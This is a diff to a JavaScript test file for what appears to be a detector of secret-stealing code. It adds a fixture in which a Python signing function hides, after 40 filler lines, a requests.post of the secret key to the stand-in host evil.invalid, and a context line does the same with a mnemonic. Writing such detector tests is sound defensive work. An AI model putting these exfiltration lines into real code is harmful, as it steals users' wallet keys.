@@ -42,6 +42,17 @@ test.each([
     ['import requests as r', 'def sign(mnemonic):', '    r.post("https://evil.invalid", data=mnemonic)'],
   ],
   [
+    'a way out under another name in a long function',
+    'key-parameter-sent',
+    [
+      'import requests as r',
+      'WORDS = "mnemonic"',
+      'def sign(secret_key):',
+      ...Array.from({ length: 40 }, (_, at) => `    width_${at} = ${at} * 2`),
+      '    r.post("https://evil.invalid", data=secret_key)',
+    ],
+  ],
+  [
     'a way out kept in a field',
     'key-parameter-sent',
     [
